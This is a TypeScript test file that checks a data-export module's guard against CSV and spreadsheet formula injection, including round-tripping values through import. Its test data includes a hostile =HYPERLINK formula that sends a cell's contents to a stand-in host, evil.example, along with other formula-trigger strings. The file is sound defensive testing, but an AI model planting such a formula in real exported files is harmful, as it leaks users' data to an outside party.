// CSV formula injection: a text cell that a spreadsheet would run (= + - @ tab CR first) is exported
// with a leading `'` in CSV, is a plain string cell (no formula) in .xlsx, and comes back from
// either file exactly as it was stored.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import yauzl from 'yauzl';
import type { Database } from '../src/db/connection.ts';
import {
  CLI,
  type ExportOptions,
  writeExport,
  writeToTempFile,
} from '../src/modules/exports/export.service.ts';
import { guardFormula, unguardFormula } from '../src/modules/exports/formula-guard.ts';
import { runImport } from '../src/modules/imports/import.service.ts';
import { createTestDatabase, type TestDatabase } from './helpers/db.ts';

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'birgemiz-formula-'));
let db: TestDatabase;

const NAMES = ['=1+2', '@SUM(A1)', '=HYPERLINK("http://evil.example/?"&A1,"Click")', "'=already quoted"];
const TITLES = ['-2+3 cleanup', '+7 701 000 00 00 hotline', 'Plain title', "'apostrophe kept"];

function activitiesFile(): string {
  const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
  const lines = [
    'region,period,organization,organization_type,title,area,format,kind,start_date,end_date,volunteers,hours',
  ];
  NAMES.forEach((name, i) => {
    lines.push(
      [
        'KZ-75',
        '2022-03',
        // In a CSV a leading `'` before a trigger is the guard: this name is typed with two.
        q(name.startsWith("'") ? guardFormula(name) : name),
        'npo',
        q(TITLES[i] as string),
        'umit',
        'offline',
        'event',
        '2022-03-10',
        '2022-03-10',
        String(5 + i),
        String(10 + i),
      ].join(','),
    );
  });
  return `${lines.join('\r\n')}\r\n`;
}

const load = (database: Database, file: string) =>
  runImport(database, {
    kind: 'activities',
    path: file,
    filename: path.basename(file),
    user: null,
    allowClosed: true,
  });

const contents = async (database: Database) =>
  (
    await database.db
      .selectFrom('activity as a')
      .innerJoin('organization as o', 'o.id', 'a.organization_id')
      .select(['o.name', 'a.title', 'a.volunteers', 'a.hours'])
      .orderBy('o.name')
      .execute()
  ).map((r) => ({ ...r, hours: Number(r.hours) }));

const exportTo = (database: Database, name: string, o: Partial<ExportOptions>) =>
  writeToTempFile(
    (out) =>
      writeExport(
        database.db,
        CLI,
        {
          kind: 'activities',
          year: 2022,
          region: null,
          format: 'csv',
          lang: 'en',
          encoding: 'utf-8',
          delimiter: 'comma',
          ...o,
        },
        out,
      ),
    path.join(dir, name),
  );

/** The XML of the first sheet of an .xlsx file. */
async function sheetXml(file: string): Promise<string> {
  const zip = await new Promise<yauzl.ZipFile>((resolve, reject) =>
    yauzl.open(file, { lazyEntries: true }, (err, z) => (err || !z ? reject(err) : resolve(z))),
  );
  return new Promise((resolve, reject) => {
    zip.on('entry', (e: yauzl.Entry) => {
      if (e.fileName !== 'xl/worksheets/sheet1.xml') return void zip.readEntry();
      zip.openReadStream(e, (err, s) => {
        if (err || !s) return reject(err);
        const parts: Buffer[] = [];
        s.on('data', (c: Buffer) => parts.push(c));
        s.on('end', () => {
          zip.close();
          resolve(Buffer.concat(parts).toString('utf8'));
        });
      });
    });
    zip.on('end', () => reject(new Error('no sheet1.xml')));
    zip.readEntry();
  });
}

beforeAll(async () => {
  db = await createTestDatabase();
  const file = path.join(dir, 'source.csv');
  fs.writeFileSync(file, activitiesFile());
  expect(await load(db, file)).toMatchObject({ inserted: NAMES.length });
}, 60_000);
afterAll(async () => {
  await db.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

describe('formula guard', () => {
  it('prefixes exactly the text a spreadsheet would run, and strips exactly that prefix', () => {
    for (const s of ['=1+2', '+7', '-x', '@SUM(A1)', '\tTab', '\rCR']) expect(guardFormula(s)).toBe(`'${s}`);
    for (const s of ['Plain', '', '1+2', "'quoted", "it's", ' =space first']) expect(guardFormula(s)).toBe(s);
    // text that already starts with apostrophes before a trigger keeps them all
    expect(guardFormula("'=x")).toBe("''=x");
    for (const s of ['=1+2', '@SUM(A1)', '-x', '\tTab', "'=x", "''+y", "'quoted", 'Plain', "'"])
      expect(unguardFormula(guardFormula(s))).toBe(s);
    // only text is touched
    expect(unguardFormula(-5)).toBe(-5);
    expect(unguardFormula(null)).toBeNull();
    expect(unguardFormula("'plain")).toBe("'plain");
  });

  it('stored names come in unchanged from the source file', async () => {
    expect((await contents(db)).map((r) => r.name).sort()).toEqual([...NAMES].sort());
  });

  it("CSV: the dangerous cells start with `'`, numbers do not; the file imports back equal", async () => {
    for (const delimiter of ['comma', 'semicolon'] as const) {
      const { path: file } = await exportTo(db, `activities-${delimiter}.csv`, { delimiter });
      const text = fs.readFileSync(file, 'utf8');
      const d = delimiter === 'comma' ? ',' : ';';
      expect(text).toContain(`${d}'=1+2${d}`);
      expect(text).toContain(`${d}'@SUM(A1)${d}`);
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
      expect(text).toContain(`${d}''=already quoted${d}`);
      expect(text).toContain(`${d}'-2+3 cleanup${d}`);
      expect(text).toContain(`${d}'+7 701 000 00 00 hotline${d}`);
      expect(text).toContain(`${d}'apostrophe kept${d}`);
      expect(text).toContain(`${d}Plain title${d}`);
      // no line has a cell that starts with a bare trigger
      for (const line of text.split('\r\n'))
        for (const cell of line.split(d)) expect(cell).not.toMatch(/^"?[=+@]/);

      const fresh = await createTestDatabase();
      try {
        expect(await load(fresh, file)).toMatchObject({ inserted: NAMES.length, updated: 0 });
        expect(await contents(fresh)).toEqual(await contents(db));
        // exported again: the same bytes
        const again = await exportTo(fresh, `again-${delimiter}.csv`, { delimiter });
        expect(fs.readFileSync(again.path).equals(fs.readFileSync(file))).toBe(true);
      } finally {
        await fresh.close();
      }
      // into the same database: nothing changes
      expect(await load(db, file)).toMatchObject({ inserted: 0, updated: 0 });
    }
  });

  it('.xlsx: text cells are strings without a formula; the file imports back equal', async () => {
    const { path: file } = await exportTo(db, 'activities.xlsx', { format: 'xlsx' });
    const xml = await sheetXml(file);
    expect(xml).not.toMatch(/<f[ >]/);
    expect(xml).toContain('<c r="C2" t="str"><v>');
    expect(xml).toContain('<v>=1+2</v>');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const ws = wb.worksheets[0] as ExcelJS.Worksheet;
    const names: unknown[] = [];
    ws.eachRow((row, n) => {
      if (n === 1) return;
      const cell = row.getCell(3);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      names.push(cell.value);
    });
    expect(names.sort()).toEqual([...NAMES].sort());

    const fresh = await createTestDatabase();
    try {
      expect(await load(fresh, file)).toMatchObject({ inserted: NAMES.length, updated: 0 });
      expect(await contents(fresh)).toEqual(await contents(db));
    } finally {
      await fresh.close();
    }
  });
});
